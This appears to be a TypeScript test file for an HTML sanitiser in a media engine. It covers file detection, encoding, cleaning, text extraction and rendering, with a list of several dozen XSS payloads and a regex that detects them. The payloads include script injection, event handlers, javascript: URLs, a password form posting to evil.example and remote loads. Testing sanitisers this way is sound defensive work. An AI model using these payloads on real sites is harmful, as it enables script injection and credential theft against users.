import assert from 'node:assert/strict';
import { afterAll, beforeAll, test } from 'vitest';
import { createMediaEngine, type MediaEngine } from '../../index.ts';
import { createUploadFolder, type UploadFolder } from '../../testing/fixtures.ts';
import { pixelsOf } from '../../testing/pixels.ts';

let uploads: UploadFolder;
let engine: MediaEngine;

beforeAll(async () => {
  uploads = await createUploadFolder();
  engine = createMediaEngine({ workers: 1 });
});
afterAll(async () => {
  await engine.close();
  await uploads.remove();
});

const inspect = async (content: string | Buffer, fileName = 'page.html') =>
  engine.inspect(await uploads.put(content), { fileName });
const clean = async (content: string) =>
  (await engine.sanitise(await uploads.put(content), { mimeType: 'text/html' })).toString();
const words = async (content: string) => {
  const options = { mimeType: 'text/html', indexes: [0], maxChars: 10_000 };
  return (await engine.texts(await uploads.put(content), options))[0];
};

test('[FILE-10] HTML is a web page of one sheet, whatever it is called', async () => {
  const web = { ok: true, mimeType: 'text/html', pageType: 'PAGE_TYPE_WEB' };
  const pages = [{ width: 612, height: 792 }];
  assert.deepEqual(await inspect('<!doctype html><title>A</title><p>Hello'), { ...web, pages });
  assert.deepEqual(await inspect('<html><body>Hello</body></html>', 'a.txt'), { ...web, pages });
  const xhtml =
    '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><p>Hello</p></body></html>';
  assert.deepEqual(await inspect(xhtml), { ...web, mimeType: 'application/xhtml+xml', pages });
});

test('[FILE-12] HTML of more than 4 MiB, or that turns out to be no text, is kept as a file', async () => {
  const long = await inspect(`<html>${'x'.repeat(4 * 1024 ** 2)}</html>`);
  assert.equal(long.ok && long.pageType, null);
  const binary = await inspect(Buffer.from(`<html>${'x'.repeat(9_000)}Gr\xfc\xdfe\x01</html>`, 'latin1'));
  assert.equal(binary.ok && binary.pageType, null);
});

test('[FILE-30] HTML in another encoding is shown in UTF-8', async () => {
  const latin = Buffer.from(`<html>${'x'.repeat(9_000)}Gr\xfc\xdfe</html>`, 'latin1');
  const page = await inspect(latin);
  assert.ok(page.ok && page.mimeType === 'text/html; charset=windows-1252');
  const sanitised = await engine.sanitise(await uploads.put(latin), { mimeType: page.mimeType });
  assert.match(sanitised.toString('utf8'), /Grüße/);
});

test('[FILE-10] what a page says is kept: structure, links, tables, pictures in it', async () => {
  const pixel = 'data:image/png;base64,iVBORw0KGgo=';
  const body = `<h1 style="color:#123456;text-align:center">Ü &amp; 日本</h1><p>See <a href="https://example.com/?a=1&amp;b=2">there</a>.</p><table><tr><td colspan="2">cell</td></tr></table><img src="${pixel}" alt="dot" />`;
  const visibleCleaned = await clean(
    `<html><head><title>The &lt;title&gt;</title></head><body>${body}</body></html>`,
  );
  assert.match(visibleCleaned, /<title>The &#60;title&#62;<\/title>/);
  assert.match(visibleCleaned, /<h1 style="color:#123456;text-align:center">Ü &amp; 日本<\/h1>/);
  assert.match(
    visibleCleaned,
    /<a href="https:\/\/example\.com\/\?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">/,
  );
  assert.match(visibleCleaned, /<td colspan="2">cell<\/td>/);
  assert.ok(visibleCleaned.includes(pixel));
});

const HOSTILE: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '<img src="//evil.example/pixel.png">',
  '<img srcset="https://evil.example/a.png 2x" src="data:image/png;base64,AAAA">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body{background:url(https://evil.example/x)}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="background-image:u\\72l(https://evil.example/x)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
  '<body background="https://evil.example/x.png">x</body>',
  '<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<video src="https://evil.example/x.mp4" poster="https://evil.example/x.png" onplay=alert(1)></video>',
  '<audio src="https://evil.example/x.mp3"></audio>',
  '<details ontoggle=alert(1) open>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p onclick="alert(1)" id="x" class="y" name="z">x</p>',
  '<a href="https://ok.example" ping="https://evil.example">x</a>',
  '<b <script>alert(1)</script>x',
  '<img src="data:image/png;base64,AAAA" style="background:url(//evil.example)">',
  '"><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><script>alert(1)</script></xmp>',
];

const DANGEROUS =
  /<(script|style|iframe|object|embed|form|input|button|base|meta http|link|svg|math|video|audio|template|noscript|textarea|marquee|xmp)\b|\son\w+\s*=|javascript:|vbscript:|url\(|@import|expression|data:(?!image\/(png|jpeg|gif|webp);base64,)|srcset|\sping=|background=|position|https?:\/\/evil|\/\/evil/i;

test('[FILE-10] no script, no form, no frame and nothing that loads reaches a client', async () => {
  for (const hostile of HOSTILE) {
    for (const page of [`<html><body>${hostile}<p>kept</p></body></html>`, `<html>${hostile}`]) {
      const visibleCleaned = await clean(page);
      const markup = visibleCleaned.replace(/>[^<]*</g, '><').replace(/ title="[^"]*"/g, '');
      assert.doesNotMatch(markup, DANGEROUS, hostile);
    }
  }
});

test('[FILE-10] cleaning what is clean changes nothing', async () => {
  for (const hostile of HOSTILE) {
    const body = (html: string) => /<body>\n([\s\S]*)\n<\/body>/.exec(html)?.[1];
    const once = await clean(`<html><body><p>before</p>${hostile}<p>after</p></body></html>`);
    assert.equal(body(await clean(once)), body(once), hostile);
  }
});

test('[FILE-10] a page that nests without end is kept as a file, and a long one is cleaned in a moment', async () => {
  const started = performance.now();
  const deep = await inspect(`<html>${'<div><b>'.repeat(400_000)}deep`);
  assert.deepEqual(deep, { ok: true, mimeType: 'text/html', pageType: null, pages: [] });
  const wide = await inspect(`<html>${'<div>'.repeat(280)}${'<p>a</p>'.repeat(100_000)}`);
  assert.equal(wide.ok && wide.pageType, 'PAGE_TYPE_WEB');
  assert.ok(performance.now() - started < 12_000);
  assert.ok((await words('<p>a</p>'.repeat(100_000)))?.startsWith('a\n'));
});

test('[FILE-10] the words of a page are what a reader sees', async () => {
  const page = `<html><head><title>Plan</title><style>p{}</style></head><body><h1>Big   day</h1><p>One <b>two</b>
    three</p><ul><li>first</li><li>second</li></ul><pre>a  b\n c</pre><script>no()</script></body></html>`;
  assert.equal(await words(page), 'Plan\n\nBig day\n\nOne two three\n\n• first\n• second\n\na  b\n c');
});

test('[FILE-10] its picture is a sheet of its words', async () => {
  const box = { mimeType: 'text/html', index: 0, maxWidth: 612, maxHeight: 792, format: 'png' } as const;
  const draw = async (html: string) => (await engine.render(await uploads.put(html), box)).bytes;
  const { levels, width, height } = await pixelsOf(await draw('<html><p>Hello there'));
  assert.deepEqual([width, height], [612, 792]);
  assert.ok(levels.filter((level) => level < 200).length > 50);
  assert.deepEqual(
    await draw('<html><p>Hello there'),
    await draw('<html><script>x()</script><p>Hello there'),
  );
});
